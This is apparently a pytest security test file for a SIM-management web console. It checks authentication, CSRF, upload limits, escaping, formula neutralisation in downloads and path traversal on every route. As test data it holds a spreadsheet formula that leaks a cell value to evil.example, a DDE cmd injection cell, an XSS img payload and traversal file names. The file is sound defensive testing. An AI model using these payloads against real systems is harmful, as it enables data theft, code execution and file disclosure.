"""The console's security, over HTTP and across EVERY route it serves (#15).

The routes are read from the console's own routing table, so a page added later is checked with
the others: without the token every page and action is refused with no account data and nothing
done; every POST needs the CSRF token of its cookie; an oversized body is refused before an upload
is stored; values from files (a `<script>.csv` with formula and HTML cells) are escaped on every
page and neutralised in the downloads; no page or download holds the partner code or a signature.
"""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from consolehelp import console_client, csrf_of, state_of
from markupsafe import escape
from starlette.routing import Route
from starlette.testclient import TestClient

from lf_bulk import runs
from lf_bulk.sandbox.seed import DEMO_GROUP, PILOT_GROUP
from lf_bulk.sandbox.state import SandboxState
from lf_bulk.settings import SANDBOX_PARTNER_CODE

# The engine's waits scaled to the test sandbox (conftest.quick_engine): these tests are about
# what a job does, not about how long it waits.
pytestmark = pytest.mark.usefixtures("quick_engine")

HOSTILE_NAME = "<script>.csv"
HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    '<img src=x onerror="alert(1)">',
)
PARAMETER = re.compile(r"{(?P<name>\w+)(?::\w+)?}")
SCRIPT_TAG = re.compile(r"<script\b[^>]*>", re.IGNORECASE)
SIGNATURE = re.compile(r"""["']?\bsign["']?\s*[:=]""")


@dataclass
class World:
    """A console that has done some work: a finished add run from a hostile file, its upload, a
    compared desired-state file with a hostile name."""

    client: TestClient
    run_id: str
    upload_id: str
    drift_upload_id: str
    valid: list[str]

    @property
    def home(self) -> Path:
        return state_of(self.client).settings.home

    def stranger(self) -> TestClient:
        """A browser without the cookie, talking to the same console."""
        return TestClient(
            self.client.app, base_url=str(self.client.base_url), follow_redirects=False
        )

    def routes(self) -> list[tuple[str, str]]:
        """(method, path) of every route of the console, its parameters filled with real ids."""
        values = {"run_id": self.run_id, "upload_id": self.upload_id, "name": "report.xlsx"}
        found = []
        for route in self.client.app.routes:  # type: ignore[attr-defined]
            if not isinstance(route, Route):
                continue  # /static: files without data, served without the token by design
            path = PARAMETER.sub(lambda m: values.get(m["name"], "x"), route.path)
            found.extend(
                (method, path) for method in sorted(route.methods or ()) if method != "HEAD"
            )
        return found

    def footprint(self) -> tuple[int, int, int]:
        """(runs in the journal, files in the uploads folder, changes the sandbox received)."""
        with runs.open_journal(self.home) as journal:
            run_count = len(runs.listing(journal, self.home))
        stored = sum(1 for p in state_of(self.client).uploads_dir.rglob("*") if p.is_file())
        with SandboxState(self.home / "sandbox.db") as state:
            return run_count, stored, len(state.mutation_log())


def hostile_csv(valid: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(
        [["iccid"], *([cell] for cell in HOSTILE_CELLS), *([i] for i in valid)]
    )
    return out.getvalue().encode()


def wait_until_done(client: TestClient, run_id: str) -> None:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        live = state_of(client).runner.live(run_id)
        if live is not None and live.done:
            return
        time.sleep(0.05)
    raise AssertionError(f"run {run_id} did not end")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with console_client(tmp_path_factory.mktemp("console-security")) as client:
        home = state_of(client).settings.home
        client.get("/")  # the embedded sandbox starts with the first page that needs it
        with SandboxState(home / "sandbox.db") as state:
            valid = state.ungrouped_sims(3)
        token = {"csrf_token": csrf_of(client)}
        uploaded = client.post(
            "/jobs/new",
            data={**token, "action": "add", "group_id": DEMO_GROUP},
            files={"file": (HOSTILE_NAME, hostile_csv(valid), "text/csv")},
        )
        assert uploaded.status_code == 303, uploaded.text
        upload_id = uploaded.headers["location"].split("/")[2]
        confirmed = client.post(f"/jobs/{upload_id}/confirm", data={**token, "skip_invalid": "1"})
        assert confirmed.status_code == 303, confirmed.text
        run_id = confirmed.headers["location"].removeprefix("/runs/")
        wait_until_done(client, run_id)
        desired = f"group_id,iccid\n{PILOT_GROUP},{valid[0]}\n".encode()
        compared = client.post(
            "/reconcile", data=token, files={"file": ("<b>desired</b>.csv", desired, "text/csv")}
        )
        assert compared.status_code == 303, compared.text
        drift_id = compared.headers["location"].rsplit("/", 1)[1]
        yield World(client, run_id, upload_id, drift_id, valid)


def test_the_routing_table_is_what_the_checks_below_walk(world: World) -> None:
    routes = world.routes()
    # the pages of the spec are all there: a route renamed would silently escape these checks
    for expected in ("/", "/runs", "/jobs/new", "/reconcile", "/finance"):
        assert ("GET", expected) in routes, expected
    assert ("POST", f"/jobs/{world.upload_id}/confirm") in routes
    assert ("POST", f"/runs/{world.run_id}/resume") in routes
    assert len([r for r in routes if r[0] == "POST"]) >= 8


def test_without_the_token_every_route_is_refused_and_nothing_is_done(world: World) -> None:
    stranger = world.stranger()
    before = world.footprint()
    valid_form = {"csrf_token": csrf_of(world.client), "action": "add", "group_id": DEMO_GROUP,
                  "consent": "1", "max_changes": "10", "skip_invalid": "1"}  # fmt: skip
    upload = {"file": ("list.csv", hostile_csv(world.valid), "text/csv")}
    let_through = []
    for method, path in world.routes():
        if method == "GET":
            answers = [stranger.get(path)]
        else:
            answers = [
                stranger.post(path, data=valid_form),
                stranger.post(path, data=valid_form, files=upload),
            ]
        for answer in answers:
            leaked = [v for v in (DEMO_GROUP, world.run_id, *world.valid) if v in answer.text]
            if answer.status_code != 401 or leaked or "set-cookie" in answer.headers:
                let_through.append((method, path, answer.status_code, leaked))
    assert not let_through
    assert world.footprint() == before


def test_every_post_needs_the_csrf_token_of_its_cookie_and_does_nothing_without(
    world: World, tmp_path: Path
) -> None:
    other = console_client(tmp_path)  # another console's cookie and token
    before = world.footprint()
    wrong_tokens = [
        {},
        {"csrf_token": ""},
        {"csrf_token": csrf_of(other)},
        {"csrf_token": "0" * 64},
    ]
    fields = {"action": "add", "group_id": DEMO_GROUP, "consent": "1", "max_changes": "10"}
    upload = {"file": ("list.csv", hostile_csv(world.valid), "text/csv")}
    let_through = []
    for method, path in world.routes():
        if method != "POST":
            continue
        for wrong in wrong_tokens:
            for files in (None, upload):
                answer = world.client.post(path, data={**fields, **wrong}, files=files)
                if answer.status_code != 403:
                    let_through.append((path, wrong, files is not None, answer.status_code))
    assert not let_through
    assert world.footprint() == before


def test_a_body_over_the_limit_is_refused_on_every_post_and_no_upload_is_stored(
    tmp_path: Path,
) -> None:
    with console_client(tmp_path, max_upload_bytes=1000) as client:
        uploads = state_of(client).uploads_dir
        big = b"iccid\n" + b"8944500102198304829\n" * 10_000  # 200 kB
        token = {"csrf_token": csrf_of(client), "action": "add", "group_id": DEMO_GROUP}
        posts = [
            path
            for method, path in World(client, "R1", "U1", "U1", []).routes()
            if method == "POST"
        ]
        assert "/jobs/new" in posts and "/reconcile" in posts
        for path in posts:
            answer = client.post(path, data=token, files={"file": ("big.csv", big, "text/csv")})
            assert answer.status_code == 413, (path, answer.status_code)
        stored = [p for p in uploads.rglob("*") if p.is_file()] if uploads.exists() else []
        assert stored == []


def pages_and_downloads(world: World) -> Iterator[tuple[str, str, bytes]]:
    """(what, content type, body) of every GET page and download the console serves here."""
    client = world.client
    seen: set[str] = set()
    queue = [path for method, path in world.routes() if method == "GET"]
    queue += [f"/jobs/{world.upload_id}/plan?skip_invalid=1", f"/reconcile/{world.drift_upload_id}",
              f"/runs/{world.run_id}?outcome=invalid", "/runs/no-such-run", "/no-such-page"]  # fmt: skip
    while queue:
        path = queue.pop(0)
        if path in seen or path.endswith("/events") or len(seen) > 80:
            continue
        seen.add(path)
        answer = client.get(path)
        kind = answer.headers.get("content-type", "")
        yield path, kind, answer.content
        if kind.startswith("text/html"):
            for link in re.findall(r'href="(/[^"#]*)"', answer.text):
                if not link.startswith("/static/"):
                    queue.append(link.replace("&amp;", "&"))


def readable(body: bytes) -> str:
    """A download's text: an .xlsx is a zip of XML parts, read them all."""
    if body[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(body)) as book:
            return "\n".join(book.read(name).decode("utf-8", "replace") for name in book.namelist())
    return body.decode("utf-8", "replace")


def test_no_page_or_download_holds_the_partner_code_or_a_signature(world: World) -> None:
    shown = list(pages_and_downloads(world))
    names = {path.rsplit("/", 1)[-1] for path, _, _ in shown}
    assert {"items.csv", "report.xlsx", "summary.json"} <= names, sorted(names)
    for path, _, body in shown:
        text = readable(body)
        assert SANDBOX_PARTNER_CODE not in text, path
        assert "partner_code" not in text, path
        assert not SIGNATURE.search(text), path


def test_values_from_files_are_escaped_on_every_page(world: World) -> None:
    hostile_seen = []
    for path, kind, body in pages_and_downloads(world):
        if not kind.startswith("text/html"):
            continue
        html = body.decode()
        scripts = SCRIPT_TAG.findall(html)
        assert all('src="/static/' in tag for tag in scripts), (path, scripts)
        assert "<img" not in html and "<b>" not in html, path
        if str(escape(HOSTILE_NAME)) in html or str(escape(HOSTILE_CELLS[2])) in html:
            hostile_seen.append(path)
    # the hostile values were shown (escaped) where a user looks for them
    assert f"/jobs/{world.upload_id}/check" in hostile_seen
    assert f"/jobs/{world.upload_id}/plan?skip_invalid=1" in hostile_seen


def test_the_hostile_cells_are_neutralised_in_the_run_s_downloads(world: World) -> None:
    client = world.client
    items = client.get(f"/runs/{world.run_id}/files/items.csv")
    assert items.status_code == 200 and "attachment" in items.headers["content-disposition"]
    typed = {
        row["iccid"]
        for row in csv.DictReader(io.StringIO(items.text))
        if row["outcome"] == "invalid"
    }
    assert typed == {"'" + c if c.startswith("=") else c for c in HOSTILE_CELLS}
    book = client.get(f"/runs/{world.run_id}/files/report.xlsx").content
    xml = readable(book)
    assert "<f>" not in xml and "<f " not in xml  # no formula cell in the workbook
    assert str(escape("'=cmd|")) in xml or "'=cmd|" in xml


@pytest.mark.parametrize(
    "name",
    [
        "upload.csv",
        "..%2F..%2Fjournal.db",
        "../../journal.db",
        "%2e%2e/sandbox.db",
        "summary.json%00.csv",
    ],
)
def test_a_run_serves_only_its_report_files(world: World, name: str) -> None:
    answer = world.client.get(f"/runs/{world.run_id}/files/{name}")
    assert answer.status_code == 404, (name, answer.status_code)
    assert b"SQLite format" not in answer.content
